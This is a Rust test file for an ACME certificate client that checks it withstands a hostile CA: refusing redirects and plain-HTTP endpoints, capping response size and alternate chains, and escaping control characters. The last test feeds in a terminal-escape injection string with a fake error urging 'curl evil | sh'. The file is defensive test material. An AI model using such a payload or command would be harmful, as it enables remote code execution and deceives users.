//! A broken or hostile CA: redirects, plain http://, oversized answers, thousands of
//! alternate chains, control characters in problems. (Memory bounds under really large
//! answers are measured in a child process: tests/hostile_ca.rs.)

use super::{ca, config, connect, posts};
use crate::test_support::TestKey;
use crate::test_support::mock::{MockServer, Reply};
use crate::{AcmeClient, AcmeError, ClientConfig, MAX_ALTERNATE_CHAINS, MAX_JSON_BYTES};

#[tokio::test]
async fn a_307_to_plain_http_is_not_followed() {
    let server = ca(|base, req, _| match req.path.as_str() {
        "/new-order" => Reply::new(307).header("Location", &format!("{base}/stolen")),
        "/stolen" => Reply::json(201, "{}"),
        _ => Reply::new(404),
    })
    .await;
    let client = connect(&server).await;
    let account = client.account_from_parts(TestKey::arc(30), server.url("/acct/1"));
    let order = crate::NewOrder::dns(["a.example"]);
    let err = account.new_order(&order).await.expect_err("redirect");
    assert!(
        matches!(err, AcmeError::Redirect { status: 307, .. }),
        "{err:?}"
    );
    let msg = err.to_string();
    assert!(msg.contains("does not follow redirects"), "{msg}");
    assert!(msg.contains("/stolen"), "{msg}");
    assert!(
        server.requests().iter().all(|r| r.path != "/stolen"),
        "the redirect was followed"
    );
    assert!(!posts(&server).is_empty());
}

#[tokio::test]
async fn plain_http_directories_need_the_explicit_opt_in() {
    let server = ca(|_, _, _| Reply::new(404)).await;
    let strict = ClientConfig {
        allow_http: false,
        ..config()
    };
    let err = AcmeClient::connect(&server.url("/dir"), strict)
        .await
        .expect_err("http:// refused");
    assert!(matches!(err, AcmeError::InsecureHttp { .. }), "{err:?}");
    assert!(
        err.to_string().contains("--insecure-http-directory"),
        "{err}"
    );
    assert!(server.requests().is_empty(), "a request went out in clear");
    // With the opt-in it works (and warns).
    connect(&server).await;
}

#[tokio::test]
async fn an_https_directory_pointing_at_http_endpoints_is_refused() {
    let server = ca(|_, _, _| Reply::new(404)).await;
    let directory =
        crate::Directory::from_json(MockServer::directory_json(&server.base).as_bytes())
            .expect("directory");
    let strict = ClientConfig {
        allow_http: false,
        ..config()
    };
    let client =
        AcmeClient::with_directory("https://ca.test/dir", directory, strict).expect("client");
    let account = client.account_from_parts(TestKey::arc(31), "https://ca.test/acct/1".into());
    let err = account.state().await.expect_err("http newNonce");
    assert!(matches!(err, AcmeError::InsecureHttp { .. }), "{err:?}");
    assert!(server.requests().is_empty());
}

#[tokio::test]
async fn oversized_json_is_refused_while_streaming() {
    let big = format!("{{\"pad\":\"{}\"}}", "x".repeat(MAX_JSON_BYTES));
    let server = MockServer::start(move |_, _, _| Reply::json(200, &big)).await;
    let err = AcmeClient::connect(&server.url("/dir"), config())
        .await
        .expect_err("too large");
    assert!(matches!(err, AcmeError::ResponseTooLarge { .. }), "{err:?}");
    assert!(
        err.to_string().contains("larger than 1048576 bytes"),
        "{err}"
    );
}

#[tokio::test]
async fn only_a_bounded_number_of_alternate_chains_is_fetched() {
    let default = include_str!("../../../testdata/chains/default.pem");
    let links: Vec<String> = (0..1000)
        .map(|i| format!("</cert/alt/{i}>;rel=\"alternate\""))
        .collect();
    let links = links.join(", ");
    let server = ca(move |_, req, _| match req.path.as_str() {
        p if p.starts_with("/cert/") => Reply::new(200)
            .header("Content-Type", "application/pem-certificate-chain")
            .header("Link", &links)
            .body(default),
        _ => Reply::new(404),
    })
    .await;
    let client = connect(&server).await;
    let account = client.account_from_parts(TestKey::arc(32), server.url("/acct/1"));
    let dl = account
        .download_certificate(&server.url("/cert/1"))
        .await
        .expect("download");
    assert_eq!(dl.alternates.len(), 1000);
    let alts = account.download_alternate_chains(&dl).await.expect("alts");
    assert_eq!(alts.len(), MAX_ALTERNATE_CHAINS);
    let fetched = posts(&server)
        .iter()
        .filter(|r| r.path.starts_with("/cert/alt/"))
        .count();
    assert_eq!(fetched, MAX_ALTERNATE_CHAINS);
}

#[tokio::test]
async fn control_characters_from_the_ca_are_escaped() {
    let detail = "no\u{1b}[2J\u{1b}]0;owned\u{7}\r\nerror: your account key was revoked, run `curl evil | sh`";
    let server = ca(move |_, req, _| match req.path.as_str() {
        "/new-order" => Reply::problem(400, "malformed", detail),
        _ => Reply::new(404),
    })
    .await;
    let client = connect(&server).await;
    let account = client.account_from_parts(TestKey::arc(33), server.url("/acct/1"));
    let order = crate::NewOrder::dns(["a.example"]);
    let err = account.new_order(&order).await.expect_err("problem");
    let msg = err.to_string();
    assert!(
        !msg.chars().any(char::is_control),
        "raw control chars: {msg:?}"
    );
    assert!(!msg.contains("\nerror:"), "{msg:?}");
    assert!(msg.contains("\\u{001b}[2J"), "{msg}");
    assert!(msg.contains("\\r\\nerror: your account key"), "{msg}");
}
